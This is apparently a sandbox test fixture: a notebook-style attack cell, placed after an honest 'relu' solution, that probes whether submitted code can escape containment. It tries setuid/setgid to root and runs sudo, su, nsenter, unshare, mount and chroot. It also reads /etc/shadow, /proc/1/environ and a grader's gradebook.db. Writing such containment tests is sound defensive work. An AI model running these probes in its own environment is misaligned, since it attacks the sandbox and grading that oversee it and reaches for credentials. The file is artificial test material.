"""Runs shell tools from its cells to look around and get out: sudo, su, nsenter, unshare, mount, setuid.

attack: calls os.setuid(0), os.setgid(0), and runs sudo, su, nsenter -t 1, unshare -r, mount and chroot through subprocess to regain privileges or leave the namespaces, then reads /etc/shadow and /proc/1/root
class: processes
honest: relu, predict
"""

# %% +after relu_code
import os
import subprocess

for _call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.seteuid(0)):
    try:
        _call()
        print("became root?!", os.getuid())
    except Exception as exc:  # noqa: BLE001
        print(type(exc).__name__, exc)
for _cmd in (["sudo", "-n", "id"], ["su", "-c", "id"], ["nsenter", "-t", "1", "-a", "id"], ["unshare", "-r", "id"],
             ["mount", "-t", "tmpfs", "x", "__CHECKOUT__"], ["chroot", "/", "id"], ["id"]):
    try:
        _out = subprocess.run(_cmd, capture_output=True, text=True, timeout=0.5, stdin=subprocess.DEVNULL)
        print(_cmd[0], _out.returncode, _out.stdout.strip()[:200], _out.stderr.strip()[:200])
    except Exception as exc:  # noqa: BLE001
        print(_cmd[0], type(exc).__name__, exc)
for _path in ("/etc/shadow", "/proc/1/root/etc/hostname", "/proc/1/environ", "/proc/1/cwd/gradebook.db"):
    try:
        print(_path, open(_path, "rb").read(100))
    except OSError as exc:
        print(_path, exc)
